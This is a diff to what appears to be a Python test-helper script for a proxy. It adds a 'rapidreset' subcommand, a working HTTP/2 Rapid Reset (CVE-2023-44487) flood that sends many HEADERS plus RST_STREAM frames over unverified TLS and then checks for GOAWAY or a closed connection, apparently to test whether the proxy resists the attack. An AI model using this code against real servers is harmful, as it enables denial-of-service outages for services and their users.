@@ -12,6 +12,13 @@ server ADDR PORT NAME [--proxy-protocol]
 wsclient ADDR PORT HOST PATH
     Opens one WebSocket through the proxy, prints "open", then sends each
     stdin line as a text frame and prints the echoed text, until stdin ends.
+
+rapidreset ADDR PORT HOST COUNT
+    HTTP/2 rapid reset (CVE-2023-44487) over TLS (ALPN h2, certificate not
+    checked): COUNT times HEADERS (GET /) immediately followed by
+    RST_STREAM(CANCEL), written as fast as the socket takes them, then
+    reads until the server closes or 5 s pass. Prints "sent N", then
+    "goaway CODE" if the server sent GOAWAY, and "closed" or "open".
 """
 import base64
 import hashlib
@@ -186,9 +193,86 @@ def wsclient(addr, port, host, path):
     s.sendall(bytes([0x88, 0x80]) + os.urandom(4))
 
 
+def h2_frame(kind, flags, stream, payload):
+    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload
+
+
+def rapidreset(addr, port, host, count):
+    import select
+    import ssl
+    import time
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    ctx.set_alpn_protocols(["h2"])
+    s = ctx.wrap_socket(socket.create_connection((addr, port), timeout=10), server_hostname=host)
+    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
+    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+    # HPACK: :method GET, :scheme https, :path / (static table), :authority literal.
+    block = b"\x82\x87\x84\x41" + bytes([len(host)]) + host.encode()
+    sent, goaway, closed = 0, None, False
+    s.setblocking(False)
+    buf = b""
+
+    def read_some():
+        nonlocal buf, goaway, closed
+        try:
+            chunk = s.recv(65536)
+        except (ssl.SSLWantReadError, BlockingIOError):
+            return
+        except OSError:
+            closed = True
+            return
+        if not chunk:
+            closed = True
+            return
+        buf += chunk
+        while len(buf) >= 9:
+            n = int.from_bytes(buf[0:3], "big")
+            if len(buf) < 9 + n:
+                break
+            kind, payload = buf[3], buf[9:9 + n]
+            if kind == 7 and goaway is None:
+                goaway = int.from_bytes(payload[4:8], "big")
+            if kind == 4 and not buf[4] & 1:
+                out.append(h2_frame(4, 1, 0, b""))
+            buf = buf[9 + n:]
+
+    out = []
+    for i in range(count):
+        stream = 2 * i + 1
+        out.append(h2_frame(1, 0x5, stream, block) + h2_frame(3, 0, stream, struct.pack("!I", 8)))
+        if len(out) >= 64 or i == count - 1:
+            data = b"".join(out)
+            out = []
+            while data and not closed:
+                try:
+                    k = s.send(data)
+                    data = data[k:]
+                except (ssl.SSLWantWriteError, BlockingIOError):
+                    select.select([s], [s], [], 0.1)
+                    read_some()
+                except OSError:
+                    closed = True
+            read_some()
+            if closed:
+                break
+            sent = i + 1
+    deadline = time.time() + 5
+    while not closed and time.time() < deadline:
+        select.select([s], [], [], 0.2)
+        read_some()
+    print(f"sent {sent}", flush=True)
+    if goaway is not None:
+        print(f"goaway {goaway}", flush=True)
+    print("closed" if closed else "open", flush=True)
+
+
 if __name__ == "__main__":
     a = sys.argv[1:]
     if a[0] == "server":
         server(a[1], int(a[2]), a[3], "--proxy-protocol" in a)
     elif a[0] == "wsclient":
         wsclient(a[1], int(a[2]), a[3], a[4])
+    elif a[0] == "rapidreset":
+        rapidreset(a[1], int(a[2]), a[3], int(a[4]))
